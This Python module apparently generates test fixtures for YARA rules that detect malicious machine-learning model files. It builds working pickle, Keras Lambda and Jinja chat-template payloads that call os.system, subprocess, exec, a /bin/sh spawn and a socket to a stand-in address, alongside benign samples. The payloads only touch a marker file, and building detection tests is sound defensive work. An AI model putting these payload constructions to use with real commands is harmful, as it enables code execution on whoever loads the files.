"""Malicious and benign model files for the fleet rule tests, built with the producing libraries.

Pickles come from `pickle.dumps` of objects whose ``__reduce__`` names the target callable (what an
attacker's script does) or, where the module name must differ from the callable's real
``__module__`` (``os`` rather than ``posix``, ``__builtin__``), from hand-written opcodes that
`pickletools` accepts. Keras files are written with h5py / zipfile the way Keras 2 and 3 write them;
GGUF with the `gguf` package. Nothing here is ever loaded: payloads would touch ``marker`` if run.
"""

from __future__ import annotations

import builtins
import codecs
import collections
import cProfile
import importlib
import io
import json
import marshal
import os
import pdb
import pickle
import pickletools
import pty
import runpy
import socket
import struct
import subprocess
import sys
import types
import webbrowser
import zipfile
from dataclasses import dataclass, field
from pathlib import Path


@dataclass
class Sample:
    name: str
    path: Path
    rules: set[str] = field(default_factory=set)  # YARA rules that must fire (empty: benign)


class _Reduce:
    """Pickles as ``func(*args)``: the shape of every published pickle exploit."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def reduce_pickle(func, *args, protocol: int = 4) -> bytes:
    return pickle.dumps(_Reduce(func, *args), protocol=protocol)


def opcode_pickle(module: str, name: str, arg: str, protocol: int) -> bytes:
    """``module.name(arg)`` written opcode by opcode (GLOBAL below protocol 4, STACK_GLOBAL from 4)."""
    a = arg.encode()
    if protocol == 0:
        return f"c{module}\n{name}\n(V{arg}\ntR.".encode()
    out = bytearray(b"\x80" + bytes([protocol]))
    if protocol >= 4:
        for s in (module, name):
            out += b"\x8c" + bytes([len(s)]) + s.encode() + b"\x94"
        out += b"\x93\x94"
    else:
        out += f"c{module}\n{name}\n".encode() + b"q\x00"
    out += b"X" + struct.pack("<I", len(a)) + a + b"\x85R."
    return bytes(out)


def _valid(data: bytes) -> bytes:
    pickletools.dis(data, out=io.StringIO())  # static check that the fixture is a real pickle
    return data


def torch_zip(pkl: bytes, *, compress: bool = False) -> bytes:
    """A PyTorch >= 1.6 checkpoint layout: archive/data.pkl stored uncompressed, as torch writes it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\x00" * 64)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def fake_torch_state_dict() -> bytes:
    """A benign state-dict pickle naming torch._utils._rebuild_tensor_v2, as real checkpoints do."""
    mod = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*args):  # stands in for torch's; only its name is pickled
        return args

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    mod._rebuild_tensor_v2 = _rebuild_tensor_v2
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    sys.modules.setdefault("torch", types.ModuleType("torch"))
    sys.modules["torch._utils"] = mod
    try:
        sd = collections.OrderedDict(
            (f"layer{i}.weight", _Reduce(_rebuild_tensor_v2, "storage", 0, (4, 4), (4, 1))) for i in range(3))
        return pickle.dumps(sd, protocol=2)
    finally:
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


def lambda_code_b64(src: str) -> str:
    """Base64 of the marshalled code object of ``src`` (a lambda), as Keras' func_dump writes it."""
    module_code = compile(src, "<lambda>", "eval")  # compiled, never run
    code = next(c for c in module_code.co_consts if isinstance(c, types.CodeType))
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def keras2_config(lambda_src: str | None) -> str:
    layers = [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "in"}},
              {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}}]
    if lambda_src:
        layers.append({"class_name": "Lambda", "config": {
            "name": "lambda", "trainable": True, "dtype": "float32",
            "function": [lambda_code_b64(lambda_src), None, None], "function_type": "lambda",
            "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}})
    return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}})


def keras3_config(lambda_src: str | None) -> str:
    layers = [{"module": "keras.layers", "class_name": "Dense",
               "config": {"name": "dense", "units": 4, "activation": "relu"}, "registered_name": None}]
    if lambda_src:
        layers.append({"module": "keras.layers", "class_name": "Lambda", "config": {
            "name": "lambda", "trainable": True, "dtype": "float32",
            "function": {"class_name": "__lambda__", "config": {
                "code": lambda_code_b64(lambda_src), "defaults": None, "closure": None}},
            "arguments": {}}, "registered_name": None})
    return json.dumps({"module": "keras", "class_name": "Sequential",
                       "config": {"name": "sequential", "layers": layers}, "registered_name": None})


def write_h5(path: Path, config: str) -> None:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = config
        g = f.create_group("model_weights/dense/dense")
        g.create_dataset("kernel:0", data=np.zeros((4, 4), dtype="float32"))


def write_keras(path: Path, config: str) -> None:
    with zipfile.ZipFile(path, "w") as z:  # Keras 3 writes .keras archives uncompressed
        z.writestr("metadata.json", json.dumps({"keras_version": "3.4.1", "date_saved": "2024-06-01@10:00:00"}))
        z.writestr("config.json", config)
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56)


def write_gguf(path: Path, template: str) -> None:
    import gguf

    w = gguf.GGUFWriter(str(path), arch="llama")
    w.add_name("fixture")
    w.add_chat_template(template)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + "
          "'<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")


def ssti_template(marker: Path) -> str:
    return ("{% for message in messages %}{{ message['content'] }}{% endfor %}"
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('touch " + str(marker) + "').read() }}")


def build_samples(out: Path, marker: Path) -> list[Sample]:
    """Write every sample under ``out``; return them with the rules each must (or must not) fire."""
    out.mkdir(parents=True, exist_ok=True)
    cmd = f"touch {marker}"
    samples: list[Sample] = []

    def add(name: str, data: bytes | None, rules: set[str], writer=None) -> None:
        p = out / name
        if writer is not None:
            writer(p)
        else:
            p.write_bytes(data)
        samples.append(Sample(name, p, rules))

    os_rule, sub_rule, bi_rule = "MLSLEUTH_Pickle_OS_Exec", "MLSLEUTH_Pickle_Subprocess", "MLSLEUTH_Pickle_Builtins_Exec"
    # -- malicious pickles, every protocol and both import opcodes ------------------------------
    for proto in range(6):
        add(f"os_system_p{proto}.pkl", _valid(reduce_pickle(os.system, cmd, protocol=proto)), {os_rule})
    add("os_module_p0.pkl", _valid(opcode_pickle("os", "system", cmd, 0)), {os_rule})
    add("os_module_p4.pkl", _valid(opcode_pickle("os", "popen", cmd, 4)), {os_rule})
    add("posix_execv_p2.pkl", _valid(opcode_pickle("posix", "execv", "/bin/sh", 2)), {os_rule})
    add("subprocess_popen_p4.pkl", _valid(reduce_pickle(subprocess.Popen, ["sh", "-c", cmd])), {sub_rule})
    add("subprocess_popen_p2.pkl", _valid(reduce_pickle(subprocess.Popen, cmd, protocol=2)), {sub_rule})
    add("subprocess_check_output_p0.pkl", _valid(reduce_pickle(subprocess.check_output, cmd, protocol=0)), {sub_rule})
    add("builtins_exec_p4.pkl", _valid(reduce_pickle(builtins.exec, f"import os; os.system({cmd!r})")), {bi_rule})
    add("builtins_eval_p2.pkl", _valid(reduce_pickle(builtins.eval, "1+1", protocol=2)), {bi_rule})
    add("builtin_py2_eval_p1.pkl", _valid(opcode_pickle("__builtin__", "eval", "1+1", 1)), {bi_rule})
    add("builtins_import_p5.pkl", _valid(opcode_pickle("builtins", "__import__", "os", 5)), {bi_rule})
    add("runpy_run_code_p4.pkl", _valid(opcode_pickle("runpy", "_run_code", cmd, 4)), {"MLSLEUTH_Pickle_Runpy"})
    add("runpy_run_path_p0.pkl", _valid(reduce_pickle(runpy.run_path, "/tmp/x.py", protocol=0)), {"MLSLEUTH_Pickle_Runpy"})
    add("pty_spawn_p4.pkl", _valid(reduce_pickle(pty.spawn, "/bin/sh")), {"MLSLEUTH_Pickle_Shell_Spawn"})
    add("pty_spawn_p2.pkl", _valid(reduce_pickle(pty.spawn, "/bin/sh", protocol=2)), {"MLSLEUTH_Pickle_Shell_Spawn"})
    add("socket_connect_p4.pkl", _valid(reduce_pickle(socket.create_connection, ("203.0.113.9", 4444))),
        {"MLSLEUTH_Pickle_Network"})
    add("webbrowser_open_p0.pkl", _valid(reduce_pickle(webbrowser.open, "http://203.0.113.9/x", protocol=0)),
        {"MLSLEUTH_Pickle_Network"})
    add("importlib_p4.pkl", _valid(reduce_pickle(importlib.import_module, "os")), {"MLSLEUTH_Pickle_Code_Loader"})
    add("marshal_loads_p2.pkl", _valid(reduce_pickle(marshal.loads, b"\xe3", protocol=2)), {"MLSLEUTH_Pickle_Code_Loader"})
    add("nested_pickle_p4.pkl", _valid(reduce_pickle(pickle.loads, b"\x80\x04.")), {"MLSLEUTH_Pickle_Code_Loader"})
    ind = "MLSLEUTH_Pickle_Indirect_Exec"
    add("pdb_run_p4.pkl", _valid(reduce_pickle(pdb.run, f"import os; os.system({cmd!r})")), {ind})
    add("cprofile_run_p0.pkl", _valid(reduce_pickle(cProfile.run, "pass", protocol=0)), {ind})
    add("torch_hub_load_p4.pkl", _valid(opcode_pickle("torch.hub", "load", "evil/repo", 4)), {ind})
    add("numpy_runstring_p2.pkl", _valid(opcode_pickle("numpy.testing._private.utils", "runstring", "pass", 2)), {ind})
    add("asyncio_shell_p4.pkl", _valid(opcode_pickle("asyncio.subprocess", "create_subprocess_shell", cmd, 4)), {ind})
    add("torch_posix_system.pt", torch_zip(reduce_pickle(os.system, cmd, protocol=2)), {os_rule})
    add("torch_builtins_exec.bin", torch_zip(reduce_pickle(builtins.exec, "pass")), {bi_rule})
    # -- Keras Lambda ------------------------------------------------------------------------------
    evil = f"lambda x: __import__('os').system({cmd!r}) or x"
    lam, lam_exec = "MLSLEUTH_Keras_Lambda_Bytecode", "MLSLEUTH_Keras_Lambda_Exec"
    add("lambda_exec_keras2.h5", None, {lam, lam_exec}, lambda p: write_h5(p, keras2_config(evil)))
    add("lambda_exec_keras3.keras", None, {lam, lam_exec}, lambda p: write_keras(p, keras3_config(evil)))
    add("lambda_subprocess_keras3.keras", None, {lam, lam_exec}, lambda p: write_keras(
        p, keras3_config("lambda x: __import__('subprocess').check_output(['id']) and x")))
    unsafe = "MLSLEUTH_Keras_Unsafe_Config"
    add("module_reference_keras3.keras", None, {unsafe}, lambda p: write_keras(p, keras3_config(None).replace(
        '"registered_name": null}]', '"registered_name": null}, {"module": "os", "class_name": "system", '
        '"config": {"command": "' + cmd + '"}, "registered_name": null}]')))
    add("tfsmlayer_keras3.keras", None, {unsafe}, lambda p: write_keras(p, keras3_config(None).replace(
        '"registered_name": null}]', '"registered_name": null}, {"module": "keras.layers", "class_name": '
        '"TFSMLayer", "config": {"filepath": "/tmp/attacker_savedmodel"}, "registered_name": null}]')))
    # A Lambda is code inside a model whatever it does: the bytecode rule fires, the exec rule not.
    add("lambda_scale_keras2.h5", None, {lam}, lambda p: write_h5(p, keras2_config("lambda x: x * 2.0")))
    # -- chat templates ----------------------------------------------------------------------------
    add("ssti_template.gguf", None, {"MLSLEUTH_GGUF_ChatTemplate_Injection"},
        lambda p: write_gguf(p, ssti_template(marker)))
    add("ssti_tokenizer_config.json", json.dumps(
        {"model_max_length": 2048, "chat_template": ssti_template(marker)}).encode(),
        {"MLSLEUTH_Tokenizer_ChatTemplate_Injection"})
    # -- benign -------------------------------------------------------------------------------------
    state = collections.OrderedDict((f"w{i}", [0.1 * i] * 8) for i in range(16))
    for proto in range(6):
        add(f"benign_state_p{proto}.pkl", _valid(pickle.dumps(state, protocol=proto)), set())
    # vocabulary that spells the dangerous names as plain strings, without any import opcode
    vocab = ["os", "system", "subprocess", "Popen", "builtins", "exec", "eval", "socket", "runpy"]
    add("benign_vocab_p4.pkl", _valid(pickle.dumps({t: i for i, t in enumerate(vocab)}, protocol=4)), set())
    add("benign_vocab_p0.pkl", _valid(pickle.dumps(vocab, protocol=0)), set())
    add("benign_numpy_p2.pkl", _valid(opcode_pickle("numpy.core.multiarray", "_reconstruct", "ndarray", 2)), set())
    add("benign_codecs_p2.pkl", _valid(opcode_pickle("_codecs", "encode", "\x00\x01", 2)), set())
    add("benign_sklearn_p4.pkl", _valid(opcode_pickle("sklearn.linear_model._base", "LinearRegression", "x", 4)), set())
    add("benign_torch_state.pt", torch_zip(fake_torch_state_dict()), set())
    add("benign_dense_keras2.h5", None, set(), lambda p: write_h5(p, keras2_config(None)))
    add("benign_dense_keras3.keras", None, set(), lambda p: write_keras(p, keras3_config(None)))
    add("benign_chatml.gguf", None, set(), lambda p: write_gguf(p, CHATML))
    add("benign_tokenizer_config.json", json.dumps({"chat_template": CHATML, "eos_token": "<|im_end|>"}).encode(), set())
    add("benign_safetensors.safetensors", _safetensors(), set())
    add("benign_source.py", b"import os\nimport subprocess\n\ndef run():\n    os.system('ls')\n", set())
    return samples


def _safetensors() -> bytes:
    header = json.dumps({"__metadata__": {"format": "pt", "note": "os system subprocess"},
                         "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\x00" * 16

